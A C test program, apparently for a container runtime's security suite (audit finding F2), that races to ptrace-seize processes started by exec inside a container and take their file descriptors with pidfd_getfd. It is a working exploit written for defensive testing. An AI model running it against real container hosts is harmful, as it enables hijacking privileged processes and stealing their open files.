/* Attack program for tests/security_guest.rs (audit finding F2), run as
 * root inside an unprivileged container. It waits for the next processes
 * to appear in the container's pid namespace (the commands of `exec`) and
 * tries to PTRACE_SEIZE each as early as it can; for each one it catches,
 * it prints the process's Uid line and every fd it can take with
 * pidfd_getfd. It writes nothing but its report on stdout.
 *   racer TARGETS SECONDS
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int last_pid(void) {
    char b[32] = {0};
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    if (fd < 0) return -1;
    if (read(fd, b, sizeof b - 1) < 0) b[0] = 0;
    close(fd);
    return atoi(b);
}

static void report(int pid) {
    char path[64], line[256], uid[128] = "?";
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "Uid:", 4)) {
            snprintf(uid, sizeof uid, "%s", line + 4);
            uid[strcspn(uid, "\n")] = 0;
        }
    if (f) fclose(f);
    printf("CAUGHT %d uid=%s\n", pid, uid);
    int pfd = syscall(SYS_pidfd_open, pid, 0);
    for (int i = 0; pfd >= 0 && i < 512; i++) {
        int g = syscall(SYS_pidfd_getfd, pfd, i, 0);
        if (g < 0) continue;
        char l[64], t[512] = {0};
        snprintf(l, sizeof l, "/proc/self/fd/%d", g);
        if (readlink(l, t, sizeof t - 1) < 0) strcpy(t, "?");
        printf("FD %d %s\n", i, t);
        close(g);
    }
    if (pfd >= 0) close(pfd);
}

int main(int argc, char **argv) {
    int want = argc > 1 ? atoi(argv[1]) : 4;
    time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 30);
    int target = last_pid() + 1, seen = 0, gone = 0;
    printf("READY %d\n", target);
    fflush(stdout);
    while (seen < want && time(NULL) < end) {
        if (ptrace(PTRACE_SEIZE, target, 0, 0) == 0) {
            ptrace(PTRACE_INTERRUPT, target, 0, 0);
            int st = 0;
            if (waitpid(target, &st, __WALL) == target && WIFSTOPPED(st))
                report(target);
            else
                printf("EXITED %d\n", target);
            ptrace(PTRACE_DETACH, target, 0, 0);
            seen++, target++, gone = 0;
        } else if (errno == EPERM) {
            printf("DENIED %d\n", target);
            seen++, target++, gone = 0;
        } else if (last_pid() >= target && ++gone > 200000) {
            /* Allocated long ago and still not found: it came and went
             * (a new pid is allocated a moment before it can be found). */
            printf("MISSED %d\n", target);
            seen++, target = last_pid() + 1;
        }
        if (gone > 200000) gone = 0;
        fflush(stdout);
    }
    printf("DONE\n");
    return 0;
}
